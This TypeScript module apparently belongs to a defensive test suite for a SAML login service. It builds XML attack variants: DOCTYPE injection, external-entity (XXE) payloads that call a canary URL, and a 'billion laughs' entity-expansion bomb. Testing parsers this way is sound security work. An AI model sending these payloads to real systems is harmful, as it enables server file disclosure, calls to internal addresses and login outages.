import type { Attack, Text } from '../attack.ts';
import { append } from '../forge/pieces.ts';
import { loose, only, whole } from './deliver.ts';
import { attackOf, forgedAssertion } from './forged.ts';

const attack = attackOf({
  group: 'structure',
  severity: 'serious',
  harm: {
    de: 'Über den Dokumenttyp lassen sich Dateien lesen, interne Adressen aufrufen und Werte austauschen.',
    en: 'A document type can read files, call internal addresses and exchange values.',
  },
  requirements: ['A3.12.01', 'A3.12.03'],
  bad: 'login',
});

const words = (de: string, en: string): Text => ({ de, en });

const laughs = Array.from({ length: 9 }, (_, level) =>
  level === 0
    ? '<!ENTITY a0 "hahahahahahahahahaha">'
    : `<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`,
).join('');

/** Answers with a document type in front. */
export const documentTypeAttacks: readonly Attack[] = [
  attack({
    id: 'document-type',
    severity: 'serious',
    title: { de: 'Dokumenttyp (DTD) in der Nachricht', en: 'Document type (DTD) in the message' },
    harm: {
      de: 'Über den Dokumenttyp lassen sich Dateien lesen, interne Adressen aufrufen und Werte austauschen.',
      en: 'A document type can read files, call internal addresses and exchange values.',
    },
    references: ['OWASP XML Security Cheat Sheet'],
    requirements: ['A3.12.01', 'A3.12.03'],
    variants: (forge) => [
      whole(words('leer', 'empty'), (login) => `<!DOCTYPE saml2p:Response>${forge.answer(login)}`),
      whole(
        words('mit Kennung als ID', 'with an attribute of type ID'),
        (login) => `<!DOCTYPE r [<!ATTLIST saml2:Assertion ID ID #IMPLIED>]>${forge.answer(login)}`,
      ),
    ],
  }),
  attack({
    id: 'external-entity',
    severity: 'critical',
    bad: 'login',
    title: { de: 'Externe Entität (XXE)', en: 'External entity (XXE)' },
    harm: {
      de: 'Die Anwendung liest auf Wunsch eines Fremden Dateien des Servers oder ruft interne Adressen auf.',
      en: 'The application reads files of the server or calls internal addresses at the wish of a stranger.',
    },
    references: ['CWE-611'],
    requirements: ['A3.12.01', 'A3.12.03', 'A3.6.01'],
    variants: (forge) => [
      whole(
        words('allgemeine Entität', 'general entity'),
        (login) =>
          `<!DOCTYPE r [<!ENTITY x SYSTEM "${forge.canary}/entitaet">]>${append(forge.wrap(login, [forge.encrypt(forgedAssertion(forge, login))]), '&x;')}`,
      ),
      whole(
        words('Parameterentität', 'parameter entity'),
        (login) =>
          `<!DOCTYPE r [<!ENTITY % x SYSTEM "${forge.canary}/parameter"> %x;]>${forge.answer(login)}`,
      ),
      whole(
        words('externer Dokumenttyp', 'external document type'),
        (login) => `<!DOCTYPE r SYSTEM "${forge.canary}/dokumenttyp">${forge.answer(login)}`,
      ),
      ...loose(forge, words('in der Assertion', 'in the assertion'), (login) => [
        `<!DOCTYPE r [<!ENTITY x SYSTEM "${forge.canary}/innen">]>${append(forgedAssertion(forge, login), '&x;')}`,
      ]).slice(1),
    ],
  }),
  attack({
    id: 'entity-expansion',
    severity: 'serious',
    bad: 'outage',
    title: { de: 'Vervielfältigte Entitäten („Billion Laughs“)', en: 'Multiplied entities (billion laughs)' },
    harm: {
      de: 'Eine kleine Nachricht füllt den Speicher; die Anmeldung aller Bürgerinnen und Bürger steht still.',
      en: 'A small message fills the memory; the login of all citizens stands still.',
    },
    references: ['CWE-776'],
    requirements: ['A3.12.01', 'A3.13.01'],
    variants: (forge) => [
      whole(only, (login) => `<!DOCTYPE r [${laughs}]>${append(forge.wrap(login, []), '&a8;')}`),
      ...loose(forge, words('in der Assertion', 'in the assertion'), (login) => [
        `<!DOCTYPE r [${laughs}]>${append(forgedAssertion(forge, login), '&a8;')}`,
      ]).slice(1),
    ],
  }),
];
